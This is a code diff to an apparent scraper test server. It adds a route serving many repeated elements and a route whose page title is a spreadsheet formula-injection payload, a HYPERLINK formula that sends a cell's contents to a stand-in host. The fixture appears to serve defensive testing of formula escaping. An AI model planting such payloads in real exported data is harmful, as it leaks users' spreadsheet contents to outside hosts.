@@ -194,6 +194,7 @@ APP_SHELL = (
     "</script></head><body><div id='root'></div><noscript>You need to enable JavaScript to "
     "run this app.</noscript></body></html>"
 )
+FORMULA_TITLE = '=HYPERLINK("https://x.example/?"&amp;A1,"click")'
 PRODUCT = re.compile(r"^/product/(\d+)$")
 MESSY = re.compile(r"^/messy/(\d+)$")
 SCRIPTED = re.compile(r"^/scripted/(\d+)$")
@@ -267,6 +268,14 @@ def _route(path: str, query: dict[str, str], n: int) -> tuple[int, str]:  # noqa
         return 200, LOGIN_PAGE
     if path.startswith("/shell/"):
         return 200, APP_SHELL
+    if path.startswith("/many/"):  # ?n= elements: a cubic XPath takes hours on 1,000
+        items = "<div><p>x</p></div>" * int(query.get("n", "1000"))
+        return 200, f"<html><head><title>many</title></head><body>{items}</body></html>"
+    if path.startswith("/formula/"):  # a title a spreadsheet would run as a formula
+        return (
+            200,
+            f"<html><head><title>{FORMULA_TITLE}</title></head><body><h1>x</h1></body></html>",
+        )
     if path.startswith(("/throttle/", "/conc/")):
         return 200, product_page(5)
     if path.startswith("/slowlinks/"):  # a slow page linking to ?links= product pages
